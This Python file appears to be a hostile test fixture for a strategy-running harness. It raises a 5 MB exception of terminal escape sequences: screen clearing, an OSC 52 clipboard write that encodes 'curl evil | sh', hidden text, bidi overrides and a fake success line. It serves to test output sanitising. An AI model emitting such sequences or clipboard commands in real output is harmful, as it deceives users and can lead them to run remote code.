"""A 5 MB exception message full of terminal escape sequences.

Attack (own): clear the screen, set the window title, write the clipboard (OSC 52), hide text,
carriage-return over earlier output, bidi overrides that reorder what is shown, NUL bytes, and
a fake "ok" line, repeated to 5 MB: to spoof what the user sees, or to bloat logs and records.
Stopped by: every message crossing the boundary is one line, control (and bidi) characters
escaped, at most 300 characters.
"""

PARAMETERS = {}

CHUNK = (
    "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[8mhidden\x1b[0m"
    "\r\x00\u202egnp.live\u202c\u200b\n"
    "ok   control_buy_and_hold: 99 trades, Sharpe 76.00 on GOOG 1d\n"
)


def generate_positions(data, **params):
    raise ValueError(CHUNK * (5_000_000 // len(CHUNK)))
